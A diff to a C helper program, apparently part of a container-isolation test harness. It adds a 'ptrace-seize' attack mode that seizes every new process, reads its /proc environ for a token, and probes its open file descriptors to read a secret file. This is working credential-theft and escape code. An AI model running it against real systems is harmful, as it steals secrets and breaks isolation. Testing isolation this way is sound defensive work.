@@ -23,6 +23,15 @@
  *       "../" x 0..10 + basename(SECRET_ABS) from each directory. Prints
  *       "LEAK via PATH: FIRST-LINE" for each success, "SEEN P" once per
  *       foreign pid, then "DONE scans=N".
+ *   attack ptrace-seize TOKEN SECRET_ABS SECONDS
+ *       The attacker of a container given CAP_SYS_PTRACE: for SECONDS,
+ *       PTRACE_SEIZEs and interrupts every new pid it sees (stopping it
+ *       as early as it can), prints "SEIZED P" (or "NOSEIZE P ERRNO"),
+ *       for every fd the process holds "FDIN P N PATH" when it is that
+ *       file of the container's own tree, else "FD P N TARGET", tries to
+ *       read SECRET_ABS's basename through each ("LEAK via ..."), and
+ *       prints "ENVLEAK P" when its /proc/P/environ holds TOKEN; then
+ *       detaches. Ends with "DONE seized=N".
  *   attack exchange A B STOPFILE SECONDS
  *       renameat2(A, B, RENAME_EXCHANGE) in a loop until STOPFILE exists or
  *       SECONDS have passed; prints "DONE swaps=N errors=M".
@@ -51,6 +60,7 @@
 #include <string.h>
 #include <sys/stat.h>
 #include <sys/sysmacros.h>
+#include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -292,6 +302,108 @@ cmd_fd_scan (const char *secret, double secs)
   return 0;
 }
 
+/* ---- ptrace-seize ---- */
+
+static const char *secret_base;
+
+/* Stop a new process as early as we can, then read what it holds. */
+static void
+inspect (int pid, const char *token)
+{
+  char path[64], buf[65536], link[4096];
+  DIR *d;
+  struct dirent *e;
+  ssize_t n;
+  int fd;
+
+  snprintf (path, sizeof path, "/proc/%d/environ", pid);
+  fd = open (path, O_RDONLY | O_CLOEXEC);
+  if (fd >= 0)
+    {
+      n = read (fd, buf, sizeof buf - 1);
+      close (fd);
+      if (n > 0)
+        {
+          buf[n] = '\0';
+          for (ssize_t i = 0; i < n; i++)
+            if (buf[i] == '\0')
+              buf[i] = '\n';
+          if (strstr (buf, token) != NULL)
+            printf ("ENVLEAK %d\n", pid);
+        }
+    }
+  snprintf (path, sizeof path, "/proc/%d/fd", pid);
+  d = opendir (path);
+  while (d != NULL && (e = readdir (d)) != NULL)
+    {
+      char p2[300];
+      if (e->d_name[0] == '.')
+        continue;
+      snprintf (p2, sizeof p2, "/proc/%d/fd/%s", pid, e->d_name);
+      struct stat held, here;
+      int h;
+      n = readlink (p2, link, sizeof link - 1);
+      if (n < 0)
+        continue;
+      link[n] = '\0';
+      /* The same file as that path in our own root: the container's. */
+      h = open (p2, O_PATH | O_CLOEXEC);
+      if (h >= 0 && fstat (h, &held) == 0 && link[0] == '/' && stat (link, &here) == 0
+          && held.st_dev == here.st_dev && held.st_ino == here.st_ino)
+        printf ("FDIN %d %s %s\n", pid, e->d_name, link);
+      else
+        printf ("FD %d %s %s\n", pid, e->d_name, link);
+      if (h >= 0)
+        close (h);
+      if (secret_base != NULL)
+        try_dir (p2, secret_base);
+    }
+  if (d != NULL)
+    closedir (d);
+}
+
+static int
+cmd_ptrace_seize (const char *token, const char *secret, double secs)
+{
+  char copy[4096];
+  snprintf (copy, sizeof copy, "%s", secret);
+  secret_base = basename (copy);
+  double end = now () + secs;
+  static char seen[1 << 22];
+  long seized = 0;
+
+  seen[getpid ()] = 1;
+  while (now () < end)
+    {
+      DIR *d = opendir ("/proc");
+      struct dirent *de;
+
+      while (d != NULL && (de = readdir (d)) != NULL)
+        {
+          int pid = atoi (de->d_name), st;
+          if (pid <= 0 || pid >= (int) sizeof seen || seen[pid])
+            continue;
+          seen[pid] = 1;
+          if (syscall (SYS_ptrace, 0x4206 /* PTRACE_SEIZE */, pid, 0, 0) < 0)
+            {
+              printf ("NOSEIZE %d %s\n", pid, errname (errno));
+              inspect (pid, token);
+              continue;
+            }
+          seized++;
+          syscall (SYS_ptrace, 0x4207 /* PTRACE_INTERRUPT */, pid, 0, 0);
+          waitpid (pid, &st, __WALL);
+          printf ("SEIZED %d\n", pid);
+          inspect (pid, token);
+          syscall (SYS_ptrace, 17 /* PTRACE_DETACH */, pid, 0, 0);
+        }
+      if (d != NULL)
+        closedir (d);
+    }
+  printf ("DONE seized=%ld\n", seized);
+  return 0;
+}
+
 /* ---- exchange ---- */
 
 static int
@@ -372,6 +484,8 @@ main (int argc, char **argv)
     r = cmd_hunt_exe (argv[2], atof (argv[3]), argc == 5 ? atoi (argv[4]) : 0);
   else if (strcmp (argv[1], "fd-scan") == 0 && argc == 4)
     r = cmd_fd_scan (argv[2], atof (argv[3]));
+  else if (strcmp (argv[1], "ptrace-seize") == 0 && argc == 5)
+    r = cmd_ptrace_seize (argv[2], argv[3], atof (argv[4]));
   else if (strcmp (argv[1], "exchange") == 0 && argc == 6)
     r = cmd_exchange (argv[2], argv[3], argv[4], atof (argv[5]));
   else if (strcmp (argv[1], "write") == 0 && argc == 4)
